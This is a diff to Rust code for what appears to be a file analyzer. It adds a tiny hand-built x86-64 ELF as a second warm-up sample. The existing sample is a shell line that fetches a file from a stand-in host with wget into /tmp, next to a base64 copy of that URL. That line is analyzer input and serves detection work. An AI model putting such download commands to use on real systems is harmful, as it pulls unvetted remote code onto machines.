@@ -71,7 +71,30 @@ pub fn analyze_with(
 pub fn prepare(rules: Option<&Rules>) {
     config::prepare();
     let text = b"#!/bin/sh\nwget http://192.0.2.1/a -O /tmp/a; echo aHR0cDovLzE5Mi4wLjIuMS9h\n";
-    analyze_with(text, Timestamp::default(), &Limits::default(), rules, &mut |_| ());
+    for first in [text.as_slice(), &program()] {
+        analyze_with(first, Timestamp::default(), &Limits::default(), rules, &mut |_| ());
+    }
+}
+
+/// The smallest program for x86-64 that has functions: they return zero.
+fn program() -> Vec<u8> {
+    const FUNCTION: &[u8] = b"\x55\x48\x89\xe5\x31\xc0\x89\x45\xfc\x8b\x45\xfc\x5d\xc3\x66\x90";
+    const HEADERS: u64 = 64 + 56;
+    const ADDRESS: u64 = 0x40_0000;
+    let code = FUNCTION.repeat(16);
+    let size = HEADERS + code.len() as u64;
+    let mut file = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
+    for number in [ADDRESS + HEADERS, 64, 0] {
+        file.extend(number.to_le_bytes());
+    }
+    file.extend(b"\0\0\0\0\x40\0\x38\0\x01\0\0\0\0\0\0\0");
+    // One segment that is read and run: the whole file.
+    file.extend(b"\x01\0\0\0\x05\0\0\0");
+    for number in [0, ADDRESS, ADDRESS, size, size, 0x1000] {
+        file.extend(number.to_le_bytes());
+    }
+    file.extend(code);
+    file
 }
 
 /// The bytes of one of the members that an analysis lists; none if there is no such.
